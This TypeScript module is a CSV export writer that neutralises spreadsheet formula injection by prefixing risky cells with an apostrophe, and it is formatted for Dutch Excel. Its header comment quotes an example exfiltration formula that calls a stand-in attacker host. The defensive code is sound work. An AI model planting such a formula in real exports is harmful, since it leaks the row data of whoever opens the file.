import Papa from 'papaparse';

/*
 * The one CSV writer of every export (issue #9, defect 3). A cell that starts with `=`, `+`, `-`,
 * `@`, TAB or CR is a formula to Excel and LibreOffice — `=HYPERLINK("http://evil.example/?"&C2)`
 * in a job title leaks the row of whoever opens the export. Per OWASP's CSV Injection guidance
 * such a text cell gets a leading `'` (shown as text, never run) and every field is quoted.
 * Numbers we computed ourselves are written as numbers (a negative one stays a number).
 * Semicolon and a BOM: what Dutch Excel opens correctly by double-click.
 */

export type CsvCell = string | number | null | undefined;

const FORMULA_START = /^[=+\-@\t\r]/;

/** A text cell that a spreadsheet will show as text, never evaluate. */
export function neutraliseCell(value: string): string {
  return FORMULA_START.test(value) ? `'${value}` : value;
}

/** Numbers with a decimal comma (Dutch Excel); text neutralised; empty for null. */
const cellText = (value: CsvCell): string => {
  if (value === null || value === undefined) return '';
  if (typeof value === 'number') return Number.isFinite(value) ? String(value).replace('.', ',') : '';
  return neutraliseCell(value);
};

/** `rows` as CSV with the given headings, in column order; `trailer` lines after the table. */
export function toCsv(
  headings: readonly string[],
  rows: readonly CsvCell[][],
  trailer: string[] = [],
): Buffer {
  const body = Papa.unparse(
    { fields: headings.map(neutraliseCell), data: rows.map((r) => r.map(cellText)) },
    { delimiter: ';', quotes: true, newline: '\r\n' },
  );
  const tail = trailer
    .map((line) => `\r\n${Papa.unparse([[neutraliseCell(line)]], { quotes: true })}`)
    .join('');
  return Buffer.from(`\uFEFF${body}${tail}\r\n`, 'utf8');
}
